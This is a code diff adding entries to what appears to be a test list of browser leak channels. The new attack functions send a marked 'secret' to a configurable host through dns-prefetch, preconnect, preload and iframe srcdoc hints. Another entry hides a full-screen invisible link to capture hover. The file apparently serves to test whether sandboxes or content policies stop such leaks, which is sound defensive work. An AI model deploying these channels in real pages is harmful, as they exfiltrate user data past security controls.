@@ -82,6 +82,7 @@ export const HINTS: readonly Channel[] = [
     id: "dns_prefetch",
     family: "hint",
     entry: 11,
+    onlyLooksUp: true,
     attack: (t) => t.element("link", { rel: "dns-prefetch", href: `//${t.host}` }),
   },
   {
@@ -91,6 +92,87 @@ export const HINTS: readonly Channel[] = [
     attack: (t) => {
       const scheme = new URL(t.base).protocol;
       t.element("link", { rel: "preconnect", href: `${scheme}//${t.host}:${t.tcp}` });
+    },
+  },
+  {
+    id: "srcdoc_preconnect",
+    family: "hint",
+    entry: 12,
+    attack: (t) => {
+      const { protocol } = new URL(t.base);
+      const srcdoc = `<link rel=preconnect href="${protocol}//${t.host}:${t.tcp}">`;
+      t.element("iframe", { srcdoc });
+    },
+  },
+  {
+    id: "srcdoc_dns_prefetch",
+    family: "hint",
+    entry: 11,
+    onlyLooksUp: true,
+    attack: (t) => t.element("iframe", { srcdoc: `<link rel=dns-prefetch href="//${t.host}">` }),
+  },
+  {
+    id: "srcdoc_box_preconnect",
+    family: "hint",
+    entry: 12,
+    attack: (t) => {
+      const { protocol } = new URL(t.base);
+      const srcdoc = `<link rel=preconnect href="${protocol}//${t.host}:${t.tcp}">`;
+      t.element("iframe", { sandbox: "allow-scripts", srcdoc });
+    },
+  },
+  {
+    id: "srcdoc_box_dns_prefetch",
+    family: "hint",
+    entry: 11,
+    onlyLooksUp: true,
+    attack: (t) =>
+      t.element("iframe", {
+        sandbox: "allow-scripts",
+        srcdoc: `<link rel=dns-prefetch href="//${t.host}">`,
+      }),
+  },
+  {
+    id: "preload_fetch",
+    family: "hint",
+    entry: 10,
+    attack: (t) =>
+      t.element("link", {
+        rel: "preload",
+        as: "fetch",
+        crossorigin: "",
+        href: `${t.base}/c?secret=1`,
+      }),
+  },
+  {
+    id: "preload_font",
+    family: "hint",
+    entry: 10,
+    attack: (t) =>
+      t.element("link", {
+        rel: "preload",
+        as: "font",
+        crossorigin: "",
+        href: `${t.base}/font?secret=1`,
+      }),
+  },
+  {
+    id: "preload_imagesrcset",
+    family: "hint",
+    entry: 10,
+    attack: (t) =>
+      t.element("link", { rel: "preload", as: "image", imagesrcset: `${t.base}/img?secret=1 1x` }),
+  },
+  {
+    id: "anchor_hover",
+    family: "hint",
+    entry: 11,
+    // The pointer comes with the click; the browser looks the name up before it.
+    onlyLooksUp: true,
+    attack: (t) => {
+      const link = t.element("a", { href: `${t.base}/hover?secret=1` });
+      link.style.cssText = "position:fixed;inset:0;z-index:9";
+      link.onclick = (event) => event.preventDefault();
     },
   },
 ];
